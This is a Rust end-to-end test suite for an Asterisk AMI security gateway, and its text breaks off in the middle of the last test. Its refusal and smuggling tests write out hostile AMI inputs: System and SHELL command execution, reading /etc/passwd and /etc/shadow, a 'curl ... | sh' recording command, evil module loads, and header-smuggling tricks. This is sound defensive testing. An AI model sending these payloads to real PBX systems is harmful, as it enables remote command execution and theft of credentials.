//! End to end: the real binary as the AMI gateway in front of the protocol-faithful Asterisk
//! AMI peer (`tests/peers/ami_peer.py`), with raw sockets and real client libraries.

mod common;

use std::time::{Duration, Instant};

use common::ami::{header, AmiClient, AmiPeer, Msg};
use common::{free_port, Daemon, Env};

const UPSTREAM_SECRET: &str = "up-secret-9f2";
const DIALER_SECRET: &str = "dialer-secret-1";
const T: Duration = Duration::from_secs(10);

struct Gw {
    env: Env,
    peer: AmiPeer,
    daemon: Daemon,
    port: u16,
}

/// Peer + initialised daemon with `[ami]` (plus `extra` keys) and the client `dialer`.
fn gateway(extra: &str, peer_args: &[&str]) -> Gw {
    let mut args = vec!["--writetimeout", "0"];
    args.extend_from_slice(peer_args);
    let peer = AmiPeer::start_with(&[("pbxguard", UPSTREAM_SECRET, "all", "all")], &args);
    let env = Env::new();
    let port = free_port();
    let extra = extra.replace("{dir}", &env.dir.path().display().to_string());
    // The peer counts Asterisk sessions and logins exactly: the security-event monitor (its
    // own session, tested in tests/asterisk_security.rs) stays off here.
    let ami = format!(
        "[bans]\nasterisk_events = false\n[ami]\nlisten = \"127.0.0.1:{port}\"\nupstream = \"127.0.0.1:{}\"\nupstream_timeout = \"2s\"\n{extra}",
        peer.port()
    );
    env.write_config(&env.config_text(env.http_port, env.redirect_port, &ami));
    env.init();
    env.ok(
        &["secret", "set", "ami/upstream"],
        UPSTREAM_SECRET.as_bytes(),
    );
    env.add_ami_client("dialer",
        DIALER_SECRET,
        &[
            "--allow",
            "Originate,Hangup,CoreShowChannels,Command,Status,Getvar,Setvar,GetConfig,UpdateConfig,CreateConfig,ListCategories,ModuleLoad,Redirect,Queue*",
            "--events",
            "call",
            "--context",
            "default,from-crm",
        ],
    );
    let daemon = env.start();
    daemon.wait_for_port(port);
    Gw {
        env,
        peer,
        daemon,
        port,
    }
}

impl Gw {
    fn client(&self) -> AmiClient {
        AmiClient::connect(self.port)
    }

    fn dialer(&self) -> AmiClient {
        let mut c = self.client();
        let r = c.login("dialer", DIALER_SECRET);
        assert_eq!(
            header(&r, "Message"),
            Some("Authentication accepted"),
            "{r:?}"
        );
        c
    }
}

fn is_error(m: &Msg, message_part: &str) -> bool {
    header(m, "Response") == Some("Error")
        && header(m, "Message").is_some_and(|t| t.contains(message_part))
}

#[test]
fn banner_login_plain_and_md5_and_logoff() {
    let gw = gateway("", &["--version", "8.0.3"]);
    gw.daemon.wait_for_log("learned Asterisk's AMI banner");
    let mut c = gw.client();
    assert_eq!(c.banner(), "Asterisk Call Manager/8.0.3");
    // Before login only Login, Challenge and Logoff: everything else as Asterisk answers it.
    let r = c.action(&[("Action", "Ping")]);
    assert_eq!(header(&r, "Message"), Some("Permission denied"));
    let r = c.login("DIALER", DIALER_SECRET);
    assert_eq!(header(&r, "Response"), Some("Success"));
    // Leading blanks of a value are skipped and trailing ones kept, as Asterisk echoes them.
    c.send_raw(b"Action: Ping\r\nActionID:   spaced id \r\n\r\n");
    let pong = c.read_response(T).unwrap();
    assert_eq!(header(&pong, "Ping"), Some("Pong"));
    assert_eq!(header(&pong, "ActionID"), Some("spaced id "));
    let r = c.action(&[("Action", "Logoff")]);
    assert_eq!(header(&r, "Response"), Some("Goodbye"));
    assert_eq!(header(&r, "Message"), Some("Thanks for all the fish."));
    assert!(c.wait_closed(T));

    let mut m = gw.client();
    let r = m.login_md5("dialer", DIALER_SECRET);
    assert_eq!(
        header(&r, "Message"),
        Some("Authentication accepted"),
        "{r:?}"
    );
    assert_eq!(
        header(&m.action(&[("Action", "Ping")]), "Ping"),
        Some("Pong")
    );
    // The upstream login used MD5 too: the peer never saw pbxguard's secret on the wire.
    let logins = gw.peer.actions_named("Login");
    assert!(!logins.is_empty());
    assert!(logins
        .iter()
        .all(|a| a.header("Secret").is_none() && a.header("Key").is_some()));
}

#[test]
fn wrong_credentials_fail_after_a_delay_then_close_and_ban() {
    let gw = gateway("ban_threshold = 3\n", &[]);
    gw.env.add_ami_client(
        "remote",
        "remote-secret",
        &["--allow", "Ping", "--permit", "192.0.2.0/24"],
    );
    // Outside its permit list: refused like a wrong secret.
    let mut c = gw.client();
    let t = Instant::now();
    let r = c.login("remote", "remote-secret");
    assert!(is_error(&r, "Authentication failed"), "{r:?}");
    assert!(
        t.elapsed() >= Duration::from_millis(900),
        "{:?}",
        t.elapsed()
    );
    assert!(c.wait_closed(T));

    // From loopback, wrong secrets lock the user out (in memory) but never ban the address.
    for _ in 0..3 {
        let mut c = gw.client();
        assert!(is_error(
            &c.login("dialer", "wrong"),
            "Authentication failed"
        ));
    }
    gw.daemon.wait_for_log("AMI login ban started for the user");
    let mut c = gw.client();
    assert!(is_error(
        &c.login("dialer", DIALER_SECRET),
        "Authentication failed"
    ));
    assert_eq!(ban_list(&gw.env), serde_json::json!([]));

    // From an address on the network, failures ban the address, in the one ban list.
    let Some(net) = common::netns::PhoneNet::create() else {
        return;
    };
    let src = net.host_ip.to_string();
    for secret in ["wrong", "wrong", "also-wrong"] {
        assert_eq!(
            login_from(&src, gw.port, "remote", secret),
            "Authentication failed"
        );
    }
    gw.daemon
        .wait_for_log("AMI login ban started for the address");
    let bans = ban_list(&gw.env);
    assert_eq!(bans[0]["address"], src.as_str(), "{bans}");
    assert_eq!(bans[0]["source"], "ami", "{bans}");
    assert_eq!(bans[0]["reason"], "login_failures", "{bans}");
    // Banned: the next connection is closed before the banner.
    assert_eq!(login_from(&src, gw.port, "remote", "remote-secret"), "");
    let rows = gw
        .env
        .sql("SELECT count(*) FROM audit_log WHERE action = 'ami.login_failed'");
    assert!(rows.trim().parse::<u32>().unwrap() >= 4, "{rows}");
    assert!(!gw.daemon.log().contains("remote-secret") && !gw.daemon.log().contains(DIALER_SECRET));
}

#[test]
fn refusals_never_reach_asterisk_and_the_session_stays_open() {
    let gw = gateway("", &[]);
    let mut c = gw.dialer();
    gw.peer.clear_actions();
    let refused: Vec<Vec<(&str, &str)>> = vec![
        vec![
            ("Action", "Originate"),
            ("Channel", "Local/1@x"),
            ("Application", "System"),
            ("Data", "id"),
        ],
        vec![
            ("Action", "originate"),
            ("Channel", "Local/1@x"),
            ("application", "trysystem"),
            ("Data", "id"),
        ],
        vec![
            ("Action", "Originate"),
            ("Channel", "Local/1@x"),
            ("Application", "ExecIf"),
            ("Data", "1?System(id)"),
        ],
        vec![
            ("Action", "Originate"),
            ("Channel", "Local/1@x"),
            ("Application", "EAGI"),
            ("Data", "x"),
        ],
        vec![
            ("Action", "Originate"),
            ("Channel", "Local/1@x"),
            ("Application", "Originate"),
            ("Data", "x"),
        ],
        vec![
            ("Action", "Originate"),
            ("Channel", "Local/1@x"),
            ("Application", "NoOp"),
            ("Data", "${SHELL(id)}"),
        ],
        vec![
            ("Action", "Originate"),
            ("Channel", "Local/1@x"),
            ("Context", "c"),
            ("Exten", "1"),
            ("Priority", "1"),
            ("Variable", "a=1"),
            ("Variable", "b=${FILE(/etc/passwd)}"),
        ],
        vec![
            ("Action", "Setvar"),
            ("Channel", "PJSIP/1"),
            ("Variable", "x"),
            ("Value", "${CURL(http://evil)}"),
        ],
        vec![("Action", "Getvar"), ("Variable", "DB(secret/key)")],
        vec![
            ("Action", "Redirect"),
            ("Channel", "PJSIP/1"),
            ("Context", "c"),
            ("Exten", "${EVAL(${X})}"),
            ("Priority", "1"),
        ],
        vec![
            ("Action", "Command"),
            ("Command", "module load chan_evil.so"),
        ],
        vec![
            ("Action", "Command"),
            (
                "Command",
                "channel originate Local/1@x application System id",
            ),
        ],
        vec![("Action", "GetConfig"), ("Filename", "manager.conf")],
        vec![("Action", "GetConfig"), ("Filename", "../../../etc/shadow")],
        vec![
            ("Action", "UpdateConfig"),
            ("SrcFilename", "sip.conf"),
            ("DstFilename", "/etc/asterisk/manager.conf"),
        ],
        vec![
            ("Action", "CreateConfig"),
            ("Filename", "manager_custom.conf"),
        ],
        vec![("Action", "ListCategories"), ("Filename", "../x.conf")],
        vec![
            ("Action", "ModuleLoad"),
            ("Module", "chan_evil.so"),
            ("LoadType", "load"),
        ],
        // Not on the allowlist at all.
        vec![("Action", "Reload")],
        vec![("Action", "UserEvent"), ("UserEvent", "x")],
    ];
    for action in &refused {
        let r = c.action(action);
        assert_eq!(header(&r, "Response"), Some("Error"), "{action:?} -> {r:?}");
        let msg = header(&r, "Message").unwrap_or_default();
        assert!(!msg.is_empty(), "{action:?}");
    }
    // Still open and serving.
    assert_eq!(
        header(&c.action(&[("Action", "Ping")]), "Ping"),
        Some("Pong")
    );
    let seen: Vec<String> = gw.peer.actions().iter().map(|a| a.action.clone()).collect();
    assert!(
        seen.iter().all(|a| a.eq_ignore_ascii_case("Ping")),
        "Asterisk saw refused actions: {seen:?}"
    );
    // Allowed ones pass: a harmless Originate and a config read of another file.
    let r = c.action(&[
        ("Action", "Originate"),
        ("Channel", "PJSIP/100"),
        ("Context", "from-crm"),
        ("Exten", "100"),
        ("Priority", "1"),
    ]);
    assert_eq!(header(&r, "Response"), Some("Success"), "{r:?}");
    let r = c.action(&[("Action", "GetConfig"), ("Filename", "queues.conf")]);
    assert_eq!(header(&r, "Response"), Some("Success"), "{r:?}");
    assert_eq!(gw.peer.actions_named("Originate").len(), 1);
    // Refusals and state changes are in the audit log, without secrets.
    let audit = gw
        .env
        .sql("SELECT action || ' ' || detail FROM audit_log WHERE actor = 'ami:dialer'");
    assert!(audit.contains("ami.refused"), "{audit}");
    assert!(
        audit.contains("ami.Originate Channel: PJSIP/100"),
        "{audit}"
    );
    gw.daemon.wait_for_log("AMI action refused");
}

/// The MixMonitor action: files only under `[recordings] root` (or relative, in Asterisk's
/// monitor folder), no `..`, no post-recording command; `--override mixmonitor` lifts it.
#[test]
fn mixmonitor_writes_only_under_the_recordings_folder_and_runs_nothing() {
    let gw = gateway("", &[]);
    gw.env.add_ami_client(
        "recorder",
        "recorder secret 0123456789",
        &["--allow", "MixMonitor"],
    );
    gw.env.add_ami_client(
        "lifted",
        "lifted secret 0123456789",
        &["--allow", "MixMonitor", "--override", "mixmonitor"],
    );
    let mut c = gw.client();
    let r = c.login("recorder", "recorder secret 0123456789");
    assert_eq!(
        header(&r, "Message"),
        Some("Authentication accepted"),
        "{r:?}"
    );
    gw.peer.clear_actions();
    let refused: Vec<Vec<(&str, &str)>> = vec![
        vec![("File", "/etc/asterisk/manager.conf")],
        vec![("File", "/var/spool/asterisk/monitor/../../../etc/cron.d/x")],
        vec![
            ("File", "call.wav"),
            ("Command", "curl http://192.0.2.9/x | sh"),
        ],
        vec![("File", "call.wav"), ("Options", "br(/etc/cron.d/pbx)")],
    ];
    for extra in &refused {
        let mut action = vec![("Action", "MixMonitor"), ("Channel", "PJSIP/1001-00000001")];
        action.extend_from_slice(extra);
        let r = c.action(&action);
        assert!(
            is_error(&r, "not allowed through the gateway"),
            "{extra:?}: {r:?}"
        );
    }
    assert!(gw.peer.actions_named("MixMonitor").is_empty());
    for file in ["call-1001.wav", "/var/spool/asterisk/monitor/2026/call.wav"] {
        c.action(&[
            ("Action", "MixMonitor"),
            ("Channel", "PJSIP/1001-00000001"),
            ("File", file),
        ]);
    }
    assert_eq!(gw.peer.actions_named("MixMonitor").len(), 2);
    // The override lifts it for that client only, and says so.
    let mut l = gw.client();
    let r = l.login("lifted", "lifted secret 0123456789");
    assert_eq!(
        header(&r, "Message"),
        Some("Authentication accepted"),
        "{r:?}"
    );
    l.action(&[
        ("Action", "MixMonitor"),
        ("Channel", "PJSIP/1001-00000001"),
        ("File", "/tmp/x.wav"),
    ]);
    assert_eq!(gw.peer.actions_named("MixMonitor").len(), 3);
    let end = Instant::now() + T;
    let audit = loop {
        let audit = gw
            .env
            .sql("SELECT detail FROM audit_log WHERE action = 'ami.refused'");
        if audit.contains("(mixmonitor)") || Instant::now() > end {
            break audit;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    assert!(audit.contains("(mixmonitor)"), "{audit}");
}

#[test]
fn smuggling_is_read_as_asterisk_reads_it() {
    let gw = gateway("", &[]);
    let mut c = gw.dialer();
    gw.peer.clear_actions();
    // Duplicate Action: the first wins, for pbxguard and for Asterisk.
    c.send_raw(b"Action: Ping\r\nAction: Originate\r\nChannel: Local/1@x\r\nActionID: dup\r\n\r\n");
    let r = c.read_response(T).unwrap();
    assert_eq!(header(&r, "Ping"), Some("Pong"), "{r:?}");
    // `action :` is no Action header at all.
    c.send_raw(b"action : Originate\r\nActionID: sp\r\n\r\n");
    assert!(is_error(
        &c.read_response(T).unwrap(),
        "Missing action in request"
    ));
    // A NUL ends the line for Asterisk: `System\0Playback` is System.
    c.send_raw(b"Action: Originate\r\nChannel: Local/1@x\r\nApplication: System\0Playback\r\nActionID: nul\r\n\r\n");
    assert!(is_error(&c.read_response(T).unwrap(), "not allowed"));
    // A CR inside a value stays in it; the refused name is still found.
    c.send_raw(b"Action: Originate\r\nChannel: Local/1@x\r\nApplication: Play\rSystem\r\nActionID: cr\r\n\r\n");
    assert!(is_error(&c.read_response(T).unwrap(), "not allowed"));
    // An overlong line whose tail is a header: the whole message is refused, as by Asterisk.
    let mut long = b"Action: Ping\r\nX: ".to_vec();
    long.extend(std::iter::repeat_n(b'a', 1021));
    long.extend_from_slice(b"Action: Originate\r\nApplication: System\r\n\r\n");
    c.send_raw(&long);
    assert!(is_error(
        &c.read_response(T).unwrap(),
        "Failed to parse message: line too long"
    ));
    // 1023 bytes + LF would pass Asterisk's own reader, but forwarded with CRLF it would split
    // the message there and run the second half unjudged: refused as a whole.
    let mut edge = b"Action: Ping\nActionID: edge\nX-Pad: ".to_vec();
    edge.extend(std::iter::repeat_n(b'a', 1023 - 7));
    edge.extend_from_slice(b"\nAction: Originate\nChannel: PJSIP/trunk/0900123456\nContext: default\nExten: s\nPriority: 1\n\n");
    c.send_raw(&edge);
    let r = c.read_response(T).unwrap();
    assert!(is_error(&r, "line too long"), "{r:?}");
    // Escapes and quotes that Asterisk removes before it evaluates a function name.
    for variable in ["FI\\LE(/tmp/pwned,,,a)=x", "\"FILE\"(/tmp/pwned,,,a)=x"] {
        let r = c.action(&[
            ("Action", "Originate"),
            ("Channel", "Local/1@x"),
            ("Application", "NoOp"),
            ("Variable", variable),
        ]);
        assert!(is_error(&r, "not allowed"), "{variable}: {r:?}");
    }
    // CLI quoting as main/cli.c parses it.
    let r = c.action(&[
        ("Action", "Command"),
        ("Command", "module \"load\" /tmp/evil.so"),
    ]);
    assert!(is_error(&r, "module load"), "{r:?}");
    // 500 headers.
    let mut many = b"Action: Ping\r\nActionID: many\r\n".to_vec();
    for i in 0..500 {
        many.extend_from_slice(format!("X-{i}: v\r\n").as_bytes());
    }
    many.extend_from_slice(b"\r\n");
    c.send_raw(&many);
    let r = c.read_response(T).unwrap();
    assert!(is_error(&r, "Too many lines in message"), "{r:?}");
    assert_eq!(header(&r, "ActionID"), Some("many"));
    // Still serving; Asterisk saw only the first Ping (the rest were answered by pbxguard).
    assert_eq!(
        header(&c.action(&[("Action", "Ping")]), "Ping"),
        Some("Pong")
    );
    let seen = gw.peer.actions();
    assert!(
        seen.iter()
            .all(|a| a.action.eq_ignore_ascii_case("Ping") && a.outcome == "executed"),
        "{:?}",
        seen.iter()
            .map(|a| (&a.action, &a.outcome))
            .collect::<Vec<_>>()
    );
    assert!(seen.iter().all(|a| a.header("Application").is_none()));
}

#[test]
fn pipelined_answers_keep_their_order() {
    let gw = gateway("", &[]);
    gw.peer.set_channels(serde_json::json!([
        {"Channel": "PJSIP/100-00000001"}, {"Channel": "PJSIP/101-00000002"}
    ]));
    let mut c = gw.dialer();
    // No ActionIDs: the order alone tells the client which answer is which.
    c.send_raw(b"Action: CoreShowChannels\r\n\r\nAction: Originate\r\nApplication: System\r\n\r\nAction: Ping\r\n\r\nAction: Reload\r\n\r\nAction: Ping\r\n\r\n");
    let mut kinds = Vec::new();
    while kinds.len() < 8 {
        let m = c.read_message(T).expect("message");
        assert!(
            header(&m, "ActionID").is_none(),
            "a gateway ActionID leaked: {m:?}"
        );
        let kind = if let Some(e) = header(&m, "Event") {
            e.to_string()
        } else if header(&m, "Ping").is_some() {
            "Pong".to_string()
        } else {
            header(&m, "Response").unwrap_or_default().to_string()
        };
        kinds.push(kind);
    }
    assert_eq!(
        kinds,
        [
            "Success",
            "CoreShowChannel",
            "CoreShowChannel",
            "CoreShowChannelsComplete",
            "Error",
            "Pong",
            "Error",
            "Pong"
        ]
    );
}

#[test]
fn events_and_originate_responses_reach_only_their_clients() {
    let gw = gateway("", &[]);
    gw.env.add_ami_client(
        "wallboard",
        "wb-secret",
        &[
            "--allow",
            "Originate",
            "--events",
            "call,agent",
            "--context",
            "default",
        ],
    );
    gw.env
        .add_ami_client("blind", "blind-secret", &["--allow", "Ping"]);
    let mut dialer = gw.dialer();
    let mut wb = gw.client();
    assert_eq!(
        header(&wb.login("wallboard", "wb-secret"), "Response"),
        Some("Success")
    );
    let mut blind = gw.client();
    // Asks for everything; may read nothing.
    blind.send(&[
        ("Action", "Login"),
        ("Username", "blind"),
        ("Secret", "blind-secret"),
        ("Events", "on"),
    ]);
    assert_eq!(
        header(&blind.read_response(T).unwrap(), "Response"),
        Some("Success")
    );
    gw.peer.wait_logged_in(3, T);

    gw.peer
        .event("AgentLogin", "agent", &[("Agent", "1001")], 1);
    gw.peer.event("Reload", "system", &[("Module", "x")], 1);
    gw.peer
        .event("Newchannel", "call", &[("Channel", "PJSIP/100-1")], 1);
    let until_newchannel = |c: &mut AmiClient| -> Vec<String> {
        let mut names = Vec::new();
        while let Some(m) = c.read_message(Duration::from_secs(3)) {
            let name = header(&m, "Event").unwrap_or("?").to_string();
            names.push(name.clone());
            if name == "Newchannel" {
                break;
            }
        }
        names
    };
    assert_eq!(until_newchannel(&mut dialer), ["Newchannel"]);
    assert_eq!(until_newchannel(&mut wb), ["AgentLogin", "Newchannel"]);
    assert!(blind.read_message(Duration::from_millis(500)).is_none());

    // The same ActionID from two clients: each gets its own OriginateResponse only.
    for c in [&mut dialer, &mut wb] {
        let r = c.action(&[
            ("Action", "Originate"),
            ("Channel", "PJSIP/200"),
            ("Context", "default"),
            ("Exten", "200"),
            ("Priority", "1"),
            ("Async", "true"),
            ("ActionID", "same-1"),
        ]);
        assert_eq!(header(&r, "Message"), Some("Originate successfully queued"));
    }
    for c in [&mut dialer, &mut wb] {
        let mut responses = Vec::new();
        while let Some(m) = c.read_message(Duration::from_secs(2)) {
            if header(&m, "Event") == Some("OriginateResponse") {
                responses.push(m);
            }
        }
        assert_eq!(responses.len(), 1, "{responses:?}");
        assert_eq!(header(&responses[0], "ActionID"), Some("same-1"));
    }

    // The Events action narrows further, within what the client may read.
    let r = wb.action(&[("Action", "Events"), ("EventMask", "agent")]);
    assert_eq!(header(&r, "Events"), Some("On"));
    gw.peer
        .event("Newchannel", "call", &[("Channel", "PJSIP/100-2")], 1);
    gw.peer
        .event("AgentLogoff", "agent", &[("Agent", "1001")], 1);
    let m = wb.read_message(T).unwrap();
    assert_eq!(header(&m, "Event"), Some("AgentLogoff"));
    // Asking for a class it may not read still answers "On" but delivers nothing.
    let r = blind.action(&[("Action", "Events"), ("EventMask", "system")]);
    assert_eq!(header(&r, "Events"), Some("On"));
}

#[test]
fn unauthenticated_limits_timeout_and_rate_limit() {
    let gw = gateway(
        "auth_timeout = \"1s\"\nmax_unauthenticated = 2\naction_rate = 5\naction_burst = 5\n",
        &[],
    );
    let mut a = gw.client();
    let _b = gw.client();
    // A third unauthenticated connection is closed without a banner (Asterisk's authlimit).
    let mut third = AmiClient::try_connect(gw.port).unwrap();
    assert!(third.read_line(Duration::from_secs(2)).is_none());
    assert!(third.wait_closed(T));
    // Idle unauthenticated connections are closed after auth_timeout.
    assert!(a.wait_closed(Duration::from_secs(5)));
    // A flood of junk before login (each blank line earns an answer) is cut off early, and
    // its connection slot comes back.
    let mut junk = gw.client();
    junk.send_raw(&[b'\n'; 200_000]);
    assert!(junk.wait_closed(T), "junk flood not closed");
    drop(junk);
    std::thread::sleep(Duration::from_millis(300));
    // Rate limit: a burst of 12 pipelined actions, 5 pass.
    let mut c = gw.dialer();
    gw.peer.clear_actions();
    let mut burst = Vec::new();
    for i in 0..12 {
        burst.extend_from_slice(format!("Action: Ping\r\nActionID: r{i}\r\n\r\n").as_bytes());
    }
    c.send_raw(&burst);
    let mut limited = 0;
    for _ in 0..12 {
        let m = c.read_response(T).unwrap();
        if is_error(&m, "Rate limit exceeded") {
            limited += 1;
        }
    }
    assert!((6..=7).contains(&limited), "{limited} rate-limited");
    // The refused ones cost Asterisk one stand-in Ping together, not one each.
    let pings = gw.peer.actions_named("Ping").len();
    assert!(pings <= 8, "Asterisk saw {pings} Pings for 12 actions");
}

/// The daemon's resident memory in kB (`VmRSS` of /proc/PID/status).
fn rss_kb(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap_or_default()
        .lines()
        .find(|l| l.starts_with("VmRSS:"))
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| panic!("no VmRSS for {pid}"))
}

/// Counts the `Seq: N` events of a flood as they arrive, checking that they come complete,
/// once each and in order.
#[derive(Default)]
struct SeqCheck {
    line: Vec<u8>,
    next: u64,
    events: u64,
}

impl SeqCheck {
    fn push(&mut self, bytes: &[u8]) {
        for &b in bytes {
            if b != b'\n' {
                self.line.push(b);
                continue;
            }
            if self.line.last() == Some(&b'\r') {
                self.line.pop();
            }
            if self.line == b"Event: Newchannel" {
                assert_eq!(self.events, self.next, "an event without its Seq line");
                self.events += 1;
            } else if let Some(n) = self.line.strip_prefix(b"Seq: ") {
                let n: u64 = std::str::from_utf8(n).unwrap().parse().unwrap();
                assert_eq!(n, self.next, "event {} missing or out of order", self.next);
                self.next += 1;
            }
            self.line.clear();
        }
    }
}

#[test]
fn an_event_flood_to_a_reading_client_loses_nothing_in_bounded_memory() {
    // The smallest queue, so that the gateway pauses its Asterisk session all the time.
    let gw = gateway("max_output_bytes = 65536\nwrite_timeout = \"2s\"\n", &[]);
    let mut c = gw.dialer();
    gw.peer.wait_logged_in(1, T);
    let pid = gw.daemon.pid();
    let before = rss_kb(pid);
    let mut check = SeqCheck::default();
    check.push(&c.take_buffered());
    let mut stream = c.stream().try_clone().unwrap();
    stream
        .set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let mut peak = before;
    let answer = std::thread::scope(|scope| {
        let mut flood = Some(scope.spawn(|| {
            gw.peer
                .flood("Newchannel", "call", &[("Channel", "PJSIP/100-1")], 10.0)
        }));
        let mut buf = vec![0u8; 256 << 10];
        let started = Instant::now();
        let mut paused = 0;
        let mut last_sample = Instant::now();
        let mut answer: Option<serde_json::Value> = None;
        let mut done_at: Option<Instant> = None;
        loop {
            // Twice the client stops reading for longer than Asterisk's 100 ms but well within
            // write_timeout: a client that is merely slower than the burst is not cut off.
            if paused < 2 && started.elapsed() > Duration::from_secs(3 + 3 * paused) {
                std::thread::sleep(Duration::from_millis(700));
                paused += 1;
            }
            match std::io::Read::read(&mut stream, &mut buf) {
                Ok(0) => panic!(
                    "the gateway closed the connection after {} events\n{}",
                    check.next,
                    gw.daemon.log()
                ),
                Ok(n) => check.push(&buf[..n]),
                Err(e)
                    if e.kind() == std::io::ErrorKind::WouldBlock
                        || e.kind() == std::io::ErrorKind::TimedOut => {}
                Err(e) => panic!("read: {e}"),
            }
            if last_sample.elapsed() > Duration::from_millis(250) {
                peak = peak.max(rss_kb(pid));
                last_sample = Instant::now();
            }
            if flood.as_ref().is_some_and(|f| f.is_finished()) {
                answer = flood.take().map(|f| f.join().unwrap());
                done_at = Some(Instant::now());
            }
            if let Some(a) = &answer {
                if check.next == a["count"].as_u64().unwrap() {
                    break a.clone();
                }
                assert!(
                    done_at.unwrap().elapsed() < Duration::from_secs(30),
                    "{} of {} events arrived",
                    check.next,
                    a["count"]
                );
            }
        }
    });
    let count = answer["count"].as_u64().unwrap();
    eprintln!("flood: {answer}; gateway RSS {before} kB before, {peak} kB at most");
    assert_eq!(answer["closed"], 0, "{answer}");
    assert_eq!(check.events, count);
    // At full speed through a debug build this is still hundreds of thousands of events.
    assert!(count > 50_000, "only {count} events in 10 s: {answer}");
    assert!(
        peak < before + 32 * 1024,
        "RSS grew from {before} kB to {peak} kB during the flood"
    );
    // The session is still there and in order.
    assert_eq!(
        header(&c.action(&[("Action", "Ping")]), "Ping"),
        Some("Pong")
    );
    let log = gw.daemon.log();
    assert!(!log.contains("accepted no bytes"), "{log}");
}

#[test]
fn a_client_that_sends_without_reading_is_not_read_either() {
    // Refusals are answered by pbxguard itself once the Pong of the Ping sent in their place
    // arrives; a client that floods refused actions and reads nothing must not make the
    // gateway hold those answers without bound: above max_output_bytes its input waits in
    // the socket, as it would at Asterisk.
    let gw = gateway("max_output_bytes = 65536\nwrite_timeout = \"60s\"\n", &[]);
    let c = gw.dialer();
    gw.peer.wait_logged_in(1, T);
    let pid = gw.daemon.pid();
    let before = rss_kb(pid);
    let mut stream = c.stream().try_clone().unwrap();
    stream
        .set_write_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let chunk = "Action: ModuleLoad\r\nModule: x.so\r\nLoadType: load\r\n\r\n".repeat(1500);
    let started = Instant::now();
    let mut written = 0usize;
    while started.elapsed() < Duration::from_secs(5) {
        match std::io::Write::write(&mut stream, chunk.as_bytes()) {
            Ok(n) => written += n,
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(e) => panic!("write after {written} bytes: {e}\n{}", gw.daemon.log()),
        }
    }
    let after = rss_kb(pid);
    // Socket buffers on both sides hold a few MiB at most; the gateway read no more.
    assert!(
        written < 32 << 20,
        "the gateway read {written} bytes from a client that reads nothing"
    );
    assert!(
        after < before + 32 * 1024,
        "RSS grew from {before} kB to {after} kB"
    );
    drop(c);
}

#[test]
fn a_client_that_stops_reading_is_cut_off_after_write_timeout_and_others_keep_working() {
    let gw = gateway("max_output_bytes = 65536\nwrite_timeout = \"2s\"\n", &[]);
    let mut slow = gw.client();
    slow.send(&[
        ("Action", "Login"),
        ("Username", "dialer"),
        ("Secret", DIALER_SECRET),
    ]);
    // ... and never reads again.
    gw.env
        .add_ami_client("pinger", "pinger-secret", &["--allow", "Ping"]);
    let mut other = gw.client();
    assert_eq!(
        header(&other.login("pinger", "pinger-secret"), "Response"),
        Some("Success")
    );
    gw.peer.wait_logged_in(2, T);
    let before = rss_kb(gw.daemon.pid());
    let started = Instant::now();
    let r = gw
        .peer
        .blast("Newchannel", "call", &[("Channel", "PJSIP/1")], 200_000);
    assert!(r.get("ok").is_some(), "{r}");
    gw.daemon
        .wait_for_log("AMI client disconnected: it accepted no bytes for write_timeout");
    let cut_after = started.elapsed();
    // The kernel's buffers fill first; then two seconds without progress.
    assert!(
        cut_after >= Duration::from_secs(2),
        "cut after {cut_after:?}"
    );
    assert!(
        cut_after < Duration::from_secs(15),
        "cut after {cut_after:?}"
    );
    // Its Asterisk session was given up too (the peer saw it close).
    gw.peer.wait_logged_in(1, T);
    assert_eq!(
        header(&other.action(&[("Action", "Ping")]), "Ping"),
        Some("Pong")
    );
    let after = rss_kb(gw.daemon.pid());
    assert!(
        after < before + 32 * 1024,
        "RSS grew from {before} kB to {after} kB"
    );
    assert!(
        slow.wait_closed(T),
        "the stalled client was not disconnected"
    );
}

#[test]
fn upstream_restart_disconnects_cleanly_and_logins_wait_for_it() {
    let mut gw = gateway("", &[]);
    let mut c = gw.dialer();
    gw.peer.stop();
    assert!(
        c.wait_closed(T),
        "client not disconnected when Asterisk went away"
    );
    let mut d = gw.client();
    let r = d.login("dialer", DIALER_SECRET);
    assert!(is_error(&r, "Asterisk is not reachable"), "{r:?}");
    gw.peer.restart();
    // Backoff starts at 1 s; within a few seconds logins work again.
    login_when_back(&gw, Duration::from_secs(15), Duration::from_millis(300));
    // The HTTP side never noticed.
    let out = gw.env.curl_https("/healthz", &[]);
    assert_eq!(common::status(&out), 200);
}

/// Logs `dialer` in again and again until it works and its session answers a Ping; fails when
/// that takes longer than `limit` or a failed login says anything but "not reachable".
fn login_when_back(gw: &Gw, limit: Duration, pause: Duration) {
    let back = Instant::now();
    loop {
        let mut e = gw.client();
        let r = e.login("dialer", DIALER_SECRET);
        if header(&r, "Response") == Some("Success") {
            assert_eq!(
                header(&e.action(&[("Action", "Ping")]), "Ping"),
                Some("Pong")
            );
            return;
        }
        assert!(is_error(&r, "Asterisk is not reachable"), "{r:?}");
        assert!(
            back.elapsed() < limit,
            "logins still fail {:?} after Asterisk came back: {r:?}",
            back.elapsed()
        );
        std::thread::sleep(pause);
    }
}

#[test]
fn logins_recover_at_once_when_asterisk_returns_after_a_long_outage() {
    let mut gw = gateway("", &[]);
    drop(gw.dialer());
    gw.peer.stop();
    // A login finds Asterisk gone; the monitor then retries with backoff 1, 2, 4, 8, 16 s.
    let mut d = gw.client();
    assert!(is_error(
        &d.login("dialer", DIALER_SECRET),
        "Asterisk is not reachable"
    ));
    let deadline = Instant::now() + Duration::from_secs(40);
    while !gw.daemon.log().contains("retry_in=16s") {
        assert!(Instant::now() < deadline, "{}", gw.daemon.log());
        std::thread::sleep(Duration::from_millis(100));
    }
    gw.peer.restart();
    login_when_back(&gw, Duration::from_secs(2), Duration::from_millis(100));
    gw.daemon.wait_for_log("Asterisk's AMI is reachable again");
}

#[test]
fn cli_commands_that_print_secrets_never_reach_asterisk() {
    let gw = gateway("", &["--pjsip-auth", "1001:1001:vault-only-sip-password"]);
    // Without pbxguard, the AMI hands the password out.
    let mut direct = AmiClient::connect(gw.peer.port());
    assert_eq!(
        header(&direct.login("pbxguard", UPSTREAM_SECRET), "Response"),
        Some("Success")
    );
